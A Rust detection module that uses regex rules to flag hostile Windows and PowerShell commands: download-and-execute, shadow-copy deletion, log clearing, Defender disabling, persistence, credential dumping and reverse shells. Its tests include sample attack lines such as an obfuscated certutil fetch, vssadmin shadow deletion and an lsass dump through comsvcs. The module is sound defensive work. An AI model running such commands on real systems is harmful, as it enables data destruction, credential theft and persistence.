//! Windows commands and PowerShell, judged as text: their quoting is not a POSIX shell's.

use std::sync::LazyLock;

use regex::Regex;

use super::{Report, View};
use crate::model::Severity::{self, Critical, High, Low, Medium};

const RULES: [(&str, Severity, &str); 41] = [
    (
        "Encoded Command Execution",
        High,
        r"(?:powershell|pwsh)[^\n|;&]{0,120}\s-e(?:nc?|nco\w*|c|ncodedcommand)?\s+[a-z0-9+/=]{16,}",
    ),
    (
        "Encoded Command Execution",
        High,
        r"frombase64string\s*\([^\n]{0,200}(?:iex|invoke-expression|getstring|load\()|(?:iex|invoke-expression)[^\n]{0,200}frombase64string",
    ),
    (
        "Download and Execute",
        High,
        r"(?:iex|invoke-expression|&)\s*\(?[^\n]{0,80}(?:downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod|downloaddata|openread)",
    ),
    (
        "Download and Execute",
        High,
        r"(?:downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod)[^\n]{0,200}\|\s*(?:iex|invoke-expression)",
    ),
    ("Download and Execute", High, r"\bcertutil[^\n]{0,40}-(?:urlcache|verifyctl|url)\b"),
    ("Download and Execute", Medium, r"\bcertutil[^\n]{0,40}-(?:decode|encode|decodehex)\b"),
    ("Download and Execute", High, r"\bbitsadmin[^\n]{0,80}/(?:transfer|addfile|setnotifycmdline)"),
    ("Download and Execute", High, r"\bmshta[^\n]{0,20}\s(?:https?:|vbscript:|javascript:|about:)"),
    ("Download and Execute", High, r"\bregsvr32[^\n]{0,80}(?:/i:\s*https?|scrobj)"),
    (
        "Download and Execute",
        High,
        r"\brundll32[^\n]{0,80}(?:javascript:|https?:|url\.dll|openurl|comsvcs|shell32\.dll,shellexec|advpack|ieadvpack|syssetup|setupapi|zipfldr|pcwutl|dfshim|fileprotocolhandler)",
    ),
    (
        "Download and Execute",
        Medium,
        r"\b(?:msiexec[^\n]{0,40}(?:/i|/q\w*)[^\n]{0,40}https?:|wmic[^\n]{0,80}/format:|msbuild(?:\.exe)?\s[^\n]{0,80}\.(?:xml|csproj)|installutil[^\n]{0,80}/u|cmstp[^\n]{0,40}\.inf|odbcconf[^\n]{0,60}regsvr|hh(?:\.exe)?\s+https?:|forfiles[^\n]{0,80}/c|pcalua\b[^\n]{0,20}-a|presentationhost\b|ieexec\b|desktopimgdownldr\b|esentutl\b[^\n]{0,40}/y|extrac32\b|expand\s+\\\\|findstr\s+/v\s+/l|makecab\b[^\n]{0,20}\\\\|mavinject\b|regasm\b|regsvcs\b|syncappvpublishingserver\b|xwizard\b|scriptrunner\b|infdefaultinstall\b)",
    ),
    (
        "Download and Execute",
        Medium,
        r"(?:new-object\s+(?:system\.)?net\.webclient|\.downloadfile\s*\(|start-bitstransfer)",
    ),
    (
        "Download and Execute",
        Medium,
        r"(?:invoke-webrequest|iwr|curl)[^\n]{0,160}-outfile[^\n]{0,160}(?:start-process|;\s*&|\.\\)",
    ),
    (
        "Destructive File Delete",
        High,
        r"\b(?:del|erase|rd|rmdir)\s+(?:/[a-z]\s+)*(?:/[sq]\s+)+(?:/[a-z]\s+)*[^\n]{0,4}(?:c:|%systemroot%|%windir%|\\\\|%userprofile%)",
    ),
    ("Destructive File Delete", Medium, r"\b(?:del|erase|rd|rmdir)\s+(?:/[a-z]\s+){2,}[^\n]{0,80}(?:[\\:%$]|\*\.\*)"),
    (
        "Destructive File Delete",
        High,
        r"remove-item\b[^\n|;]{0,120}(?:-recurse|-force)[^\n|;]{0,80}(?:c:\\(?:windows|users|\*|\s|$)|\$env:|\\\*)",
    ),
    (
        "Destructive File Delete",
        Medium,
        r"remove-item\b[^\n|;]{0,120}[\\:*$][^\n|;]{0,120}-(?:recurse|force)|remove-item\b[^\n|;]{0,120}-(?:recurse|force)[^\n|;]{0,120}[\\:*$]",
    ),
    (
        "Disk Wipe Command",
        Critical,
        r"\bformat\s+[a-z]:\s*(?:/|$)|\bformat-volume\b|\bclear-disk\b|\bdiskpart\b[^\n]{0,80}clean|\bcipher\s+/w:",
    ),
    (
        "Destructive Command",
        Critical,
        r"vssadmin[^\n]{0,20}(?:delete\s+shadows|resize\s+shadowstorage)|wmic[^\n]{0,20}shadowcopy[^\n]{0,10}delete|wbadmin\s+delete|win32_shadowcopy[^\n]{0,80}(?:delete|remove)",
    ),
    (
        "Destructive Command",
        High,
        r"bcdedit[^\n]{0,60}(?:recoveryenabled\s+no|bootstatuspolicy\s+ignoreallfailures|safeboot)|reagentc\s+/disable",
    ),
    (
        "Audit Log Tampering",
        High,
        r"\bwevtutil(?:\.exe)?\s+(?:cl|clear-log|sl)\b|clear-eventlog|remove-eventlog|limit-eventlog|fsutil\s+usn\s+deletejournal|auditpol[^\n]{0,20}/(?:clear|remove|set[^\n]{0,60}disable)",
    ),
    (
        "Defense Evasion",
        High,
        r"set-mppreference[^\n]{0,80}(?:-disable|-exclusion|\$true)|add-mppreference[^\n]{0,40}-exclusion|mpcmdrun[^\n]{0,40}-removedefinitions|uninstall-windowsfeature[^\n]{0,40}defender",
    ),
    (
        "Defense Evasion",
        High,
        r"(?:sc|net1?)(?:\.exe)?\s+(?:stop|config|delete)\s+[^\n]{0,30}(?:windefend|wscsvc|wuauserv|mpssvc|sense|eventlog|sysmon|securityhealth|sharedaccess|vss)",
    ),
    (
        "Defense Evasion",
        High,
        r"netsh\s+(?:adv)?firewall\s+(?:set[^\n]{0,60}(?:off|disable)|delete\s+rule)|set-netfirewallprofile[^\n]{0,80}false|netsh\s+firewall\s+set\s+opmode",
    ),
    (
        "Defense Evasion",
        High,
        r"(?:stop-service|set-service)[^\n]{0,60}(?:windefend|eventlog|sysmon|mpssvc|disabled)|fltmc(?:\.exe)?\s+unload|amsi(?:utils|initfailed|scanbuffer)|etweventwrite|set-executionpolicy\s+(?:-\w+\s+)?(?:bypass|unrestricted)",
    ),
    ("Defense Evasion", Low, r"-(?:executionpolicy|exec|ep)\s+(?:bypass|unrestricted)|-w(?:indowstyle)?\s+hidden"),
    (
        "Defense Evasion",
        Medium,
        r"\battrib(?:\.exe)?\s+[^\n]{0,20}\+[hs]\b|\$_?\.?(?:creationtime|lastwritetime|lastaccesstime)\s*=|unblock-file|\b(?:type|echo)\b[^\n]{0,80}>\s*[^\s:]+\.\w+:\w+",
    ),
    (
        "Registry Run Key Persistence",
        High,
        r"reg(?:\.exe)?\s+add\s+[^\n]{0,120}(?:\\run(?:once)?\b|\\winlogon|\\image file execution|\\policies\\explorer|\\appinit|\\userinitmprlogonscript|\\shell folders|\\lsa\b|\\silentprocessexit|\\command processor)",
    ),
    (
        "Registry Run Key Persistence",
        High,
        r"(?:set|new)-itemproperty[^\n]{0,160}(?:\\run(?:once)?\b|winlogon|image file execution|userinit)",
    ),
    (
        "Registry Run Key Persistence",
        Medium,
        r"reg(?:\.exe)?\s+add\s+[^\n]{0,160}(?:disable|enablelua|uselogoncredential|fdenytsconnections|hidden|nodrives|policies|defender|tamperprotection|open\\command|inprocserver32)|reg(?:\.exe)?\s+(?:delete|import)\s",
    ),
    (
        "Scheduled Task Persistence",
        High,
        r"schtasks(?:\.exe)?\s+[^\n]{0,20}/create|register-scheduledtask|new-scheduledtask(?:action)?\b|\bat(?:\.exe)?\s+\\\\|new-scheduledjob|register-scheduledjob",
    ),
    (
        "Service Persistence",
        Medium,
        r"\bsc(?:\.exe)?\s+(?:\\\\\S+\s+)?(?:create|config|sdset|failure)\s|new-service\s|__eventfilter|commandlineeventconsumer|register-wmievent|set-wmiinstance",
    ),
    (
        "Account Manipulation",
        High,
        r"net1?(?:\.exe)?\s+localgroup\s+[^\n]{0,60}/add|add-localgroupmember|new-localuser|net1?(?:\.exe)?\s+user\s+[^\n]{1,80}/add|net1?(?:\.exe)?\s+group\s+[^\n]{0,60}/add",
    ),
    (
        "Account Manipulation",
        Medium,
        r"net1?(?:\.exe)?\s+user\s+[^\n]{1,60}(?:/active|/delete|/del)|set-localuser|remove-localuser",
    ),
    (
        "Credential Dumping",
        Critical,
        r"sekurlsa|lsadump|mimikatz|invoke-mimikatz|comsvcs(?:\.dll)?[,\s#]+\+?(?:minidump|24)|procdump(?:64)?(?:\.exe)?[^\n]{0,60}lsass|minidumpwritedump|lsass\.(?:dmp|exe)",
    ),
    (
        "Credential Dumping",
        High,
        r"reg(?:\.exe)?\s+save\s+(?:hklm|hkey_local_machine)\\(?:sam|system|security)|ntdsutil[^\n]{0,120}(?:ifm|create)|ntds\.dit|get-addefaultdomain|dcsync|invoke-kerberoast|rubeus|sharphound|bloodhound",
    ),
    (
        "Credential Dumping",
        Medium,
        r"cmdkey(?:\.exe)?\s+/list|vaultcmd|netsh\s+wlan\s+(?:show|export)[^\n]{0,60}key=?\s*clear|findstr\s+/[^\n]{0,20}(?:password|passw|cpassword)|dpapi|get-credential\b|dir\s+/s[^\n]{0,40}(?:pass|cred|vnc|\.config)|gpp-?password|unattend\.xml",
    ),
    (
        "Reverse Shell",
        Critical,
        r"net\.sockets\.tcpclient[^\n]{0,400}(?:getstream|iex|invoke-expression)|invoke-powershelltcp|invoke-conptyshell|powercat\b|nishang",
    ),
    (
        "Remote Execution",
        High,
        r"wmic[^\n]{0,80}process\s+call\s+create|invoke-wmimethod|invoke-cimmethod|psexec(?:64)?(?:\.exe)?\s+|winrs\s+-r:|invoke-command\s+[^\n]{0,40}-computername|enter-pssession",
    ),
    (
        "Network Exfiltration",
        High,
        r"(?:invoke-webrequest|iwr|irm|invoke-restmethod)[^\n]{0,200}-(?:infile\b|method\s+(?:post|put)[^\n]{0,200}(?:get-content|gc\s|readall))|\.uploadfile\s*\(|\.uploadstring\s*\(|\.uploaddata\s*\(",
    ),
    (
        "System Discovery",
        Low,
        r"\b(?:systeminfo|tasklist|ipconfig|net\s+(?:user|view|group|localgroup)|nltest|whoami\s+/|get-aduser|get-process|get-service|qwinsta|quser)\b",
    ),
];

struct Pattern {
    rule: &'static str,
    severity: Severity,
    expression: Regex,
}

static COMPILED: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
    let pattern = |&(rule, severity, source): &(&'static str, Severity, &str)| {
        let expression = Regex::new(source).ok()?;
        Some(Pattern { rule, severity, expression })
    };
    RULES.iter().filter_map(pattern).collect()
});

/// Words of which every rule needs one, so that other texts cost one pass.
static ANY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"powershell|pwsh|iex|invoke|frombase64|certutil|bitsadmin|mshta|regsvr32|rundll32|msiexec|wmic|msbuild|installutil|cmstp|odbcconf|hh\b|forfiles|pcalua|webclient|downloadfile|bitstransfer|\bdel\b|erase|\brd\b|rmdir|remove-|format|clear-|diskpart|cipher|vssadmin|wbadmin|shadowcopy|bcdedit|reagentc|wevtutil|eventlog|fsutil|auditpol|mppreference|mpcmdrun|uninstall-|\bsc\b|sc\.exe|net1?\b|netsh|netfirewall|-service|fltmc|amsi|etwevent|executionpolicy|-exec|-ep\b|-w\b|windowstyle|attrib|time\s*=|unblock|\breg\b|reg\.exe|itemproperty|schtasks|scheduled|\bat\b|eventfilter|eventconsumer|wmi|localgroup|localuser|sekurlsa|lsadump|mimikatz|comsvcs|procdump|minidump|lsass|ntds|addefault|dcsync|kerberoast|rubeus|hound|cmdkey|vaultcmd|findstr|dpapi|get-|\bdir\b|gpp|unattend|tcpclient|powercat|nishang|psexec|winrs|pssession|cim|iwr|irm|upload|systeminfo|tasklist|ipconfig|nltest|whoami|qwinsta|quser|presentationhost|ieexec|desktopimg|esentutl|extrac32|expand|makecab|mavinject|regasm|regsvcs|syncapp|xwizard|scriptrunner|infdefault|curl|>").ok()
});

/// Judges text as Windows would run it. Carets, quotes and backticks that only hide letters are removed first.
pub(super) fn judge(text: &str, view: View, report: &mut Report) {
    let lower = text.to_lowercase();
    let bare: String = lower.chars().filter(|character| !matches!(character, '^' | '"' | '\'' | '`')).collect();
    if !ANY.as_ref().is_some_and(|expression| expression.is_match(&bare)) {
        return;
    }
    let disguised = bare.len() + 4 < lower.len() && lower.matches('^').count() >= 3;
    let mut fired = false;
    for pattern in COMPILED.iter() {
        if let Some(found) = pattern.expression.find(&bare) {
            // Installers are documented this way too, from named hosts over TLS.
            let installs = found.as_str().contains("iex") && bare.contains("https://") && !bare.contains("http://");
            let severity = if installs && pattern.rule == "Download and Execute" { Medium } else { pattern.severity };
            report.add(pattern.rule, severity, view, found.as_str());
            fired |= pattern.severity > Low;
        }
    }
    if disguised && fired {
        report.add("Shell Obfuscation", Medium, view, text);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_expression_compiles() {
        assert_eq!(COMPILED.len(), RULES.len());
        assert!(ANY.is_some());
    }

    #[test]
    fn commands_of_windows_are_known_through_carets_and_case() {
        for (text, rule) in [
            ("c^e^r^tutil -UrlCache -f http://x/a.exe a.exe", "Download and Execute"),
            ("vssadmin Delete Shadows /all /quiet", "Destructive Command"),
            ("schtasks /create /tn x /tr calc /sc daily", "Scheduled Task Persistence"),
            (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y", "Registry Run Key Persistence"),
            ("rundll32 comsvcs.dll, MiniDump 600 x.dmp full", "Credential Dumping"),
        ] {
            let mut report = Report::new(crate::model::Surface::ToolCall, crate::model::Family::ToolCall);
            judge(text, View::Text, &mut report);
            assert!(report.at_least(rule, Low), "{text}");
        }
    }

    #[test]
    fn everyday_words_are_no_windows_commands() {
        for text in [
            "format the date",
            "dir src",
            "cargo expand --lib",
            "net income",
            "curl -s https://example.com > page.html",
        ] {
            let mut report = Report::new(crate::model::Surface::ToolCall, crate::model::Family::ToolCall);
            judge(text, View::Text, &mut report);
            assert!(report.worst().is_none(), "{text}");
        }
    }
}
